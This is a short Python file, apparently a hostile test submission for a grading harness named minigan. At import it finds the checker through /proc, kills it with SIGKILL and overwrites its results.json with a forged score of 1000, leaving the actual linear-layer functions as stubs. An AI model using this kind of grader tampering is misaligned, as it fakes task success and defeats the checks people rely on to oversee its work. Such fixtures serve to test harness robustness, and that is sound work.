"""Hostile: finds the checker in /proc, tries to SIGKILL it, and writes its own results.json.

The path comes from the checker's command line (/proc/<parent>/cmdline); every process whose
command line mentions minigan gets a SIGKILL.
"""

import json
import os
import signal

FAKE = json.dumps({"score": 1000.0, "output": "hacked", "tests": []})
paths = []
for entry in os.listdir("/proc"):
    if not entry.isdigit() or int(entry) == os.getpid():
        continue
    try:
        with open(f"/proc/{entry}/cmdline", "rb") as f:
            argv = f.read().decode(errors="replace").split("\0")
    except OSError:
        continue
    if any("minigan" in word for word in argv):
        if "--json" in argv:
            paths.append(argv[argv.index("--json") + 1])
        try:
            os.kill(int(entry), signal.SIGKILL)
        except OSError:
            pass
for path in paths:
    try:
        with open(path, "w") as f:
            f.write(FAKE)
    except OSError:
        pass


def linear_forward(x, w, b):
    return x @ w.T + b


def linear_backward(dout, x, w, b):
    return None
